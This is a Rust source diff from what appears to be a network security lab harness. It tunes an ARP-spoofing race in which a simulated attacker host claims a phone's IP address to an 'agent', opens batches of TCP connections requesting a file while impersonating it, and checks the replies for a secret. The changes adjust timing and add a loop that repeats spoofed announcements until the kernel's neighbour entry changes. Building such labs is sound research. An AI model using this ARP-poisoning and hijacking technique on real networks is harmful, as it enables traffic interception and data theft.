@@ -9,17 +9,19 @@ use std::sync::atomic::{AtomicBool, Ordering};
 use std::time::Duration;
 
 use offhook::net::sys::everybody_on_link;
-use socket2::{Domain, Protocol, SockAddr, Socket, Type};
+use socket2::{Domain, Protocol, SockAddr, SockRef, Socket, Type};
 
-use crate::attack::{LISTENS, has_secret};
+use crate::attack::has_secret;
 use crate::lab::{self, Capture, Host};
 use crate::release::{AT, FILE, MAC, SERVER, Site};
 
 pub(crate) const ATTACKER: &str = "192.168.1.66";
 pub(crate) const ATTACKER_MAC: &str = "02:66:66:66:66:66";
 const ARP: u16 = 0x0806;
-/// The kernel takes no further change of an entry within a second of the last one (`locktime`).
-const LOCKED: Duration = Duration::from_millis(1_050);
+/// The agent listens for 50 ms, and its kernel takes no change of an entry within a second of the last one.
+const SILENCES: [u64; 4] = [400, 60, 800, 90];
+/// The second that the kernel takes no change, and the time after which TCP repeats for the third time.
+const LISTENS: Duration = Duration::from_millis(1_500);
 
 /// Frames of one's own making on the first interface of a host.
 struct Wire {
@@ -113,7 +115,7 @@ pub(crate) struct Rig {
 
 impl Rig {
     /// Connections of one round.
-    pub(crate) const AT_ONCE: usize = 50;
+    pub(crate) const AT_ONCE: usize = 60;
 
     pub(crate) fn set(site: &Site<'_>) -> Self {
         site.phone.ip(&["address", "flush", "dev", "eth0", "scope", "global"]);
@@ -134,29 +136,40 @@ impl Rig {
         }
     }
 
-    /// One round of the attack, with [`Self::AT_ONCE`] requests.
-    pub(crate) fn round(&mut self) {
-        let mut streams = self.ask();
-        self.announce(ATTACKER_MAC, Duration::from_millis(120));
+    /// One round of the attack, with [`Self::AT_ONCE`] requests. The attacker is silent while the agent asks whose the
+    /// address is, longer or shorter, and then says that it is his own until what TCP repeats has come to him.
+    pub(crate) fn round(&mut self, site: &Site<'_>, number: usize) {
+        let mut streams = self.ask(site);
+        std::thread::park_timeout(Duration::from_millis(SILENCES[number % SILENCES.len()]));
+        self.announce(ATTACKER_MAC, LISTENS);
         self.listen(&mut streams);
-        std::thread::park_timeout(LOCKED);
     }
 
-    /// The requests, sent when the agent is to believe in the phone again.
-    pub(crate) fn ask(&self) -> Vec<TcpStream> {
+    /// The requests, all of them made by the attacker, and finished when the agent believes in the phone again.
+    pub(crate) fn ask(&self, site: &Site<'_>) -> Vec<TcpStream> {
         self.thief.set(true);
-        self.announce(ATTACKER_MAC, Duration::ZERO);
+        self.phone.set(false);
+        site.agent.unpinned(AT);
+        self.convince(site, ATTACKER_MAC);
         let mut streams: Vec<TcpStream> = (0..Self::AT_ONCE).map_while(|_| self.connect()).collect();
-        assert!(!streams.is_empty(), "the agent believes the attacker");
+        assert_eq!(streams.len(), Self::AT_ONCE, "the agent believes the attacker");
         self.thief.set(false);
         self.phone.set(true);
-        std::thread::park_timeout(LOCKED);
-        // In the phone's own words, before anybody listens for who says them.
-        self.announce(MAC, Duration::ZERO);
+        self.convince(site, MAC);
         for stream in &mut streams {
             let _ = stream.write_all(b"\r\n");
         }
         streams
+    }
+
+    /// Tells the agent's kernel where the phone's address is until it believes it, before the agent itself listens.
+    fn convince(&self, site: &Site<'_>, owner: &str) {
+        let known = || site.agent.neighbour(AT);
+        // Without an entry there is nothing to change: the first question is answered.
+        lab::poll("the kernel's belief", || {
+            self.announce(owner, Duration::ZERO);
+            (known().contains(owner) || !known().contains("lladdr")).then_some(())
+        });
     }
 
     /// Says where the phone's address is, at once and then every few milliseconds for so long.
@@ -180,6 +193,7 @@ impl Rig {
             socket.connect_timeout(&server.into(), Duration::from_millis(500)).ok()?;
             let mut stream = TcpStream::from(socket);
             stream.set_nodelay(true).unwrap();
+            SockRef::from(&stream).set_linger(Some(Duration::ZERO)).unwrap();
             stream.write_all(format!("GET /{FILE} HTTP/1.1\r\n").as_bytes()).ok()?;
             Some(stream)
         })
@@ -188,7 +202,7 @@ impl Rig {
     /// What the connections are told.
     fn listen(&mut self, streams: &mut [TcpStream]) {
         for stream in streams {
-            stream.set_read_timeout(Some(LISTENS / 10)).unwrap();
+            stream.set_read_timeout(Some(Duration::from_millis(2))).unwrap();
             let mut answer = vec![0; 16_384];
             let length = stream.read(&mut answer).unwrap_or(0);
             let status = std::str::from_utf8(answer.get(9..12).unwrap_or_default()).unwrap_or_default();
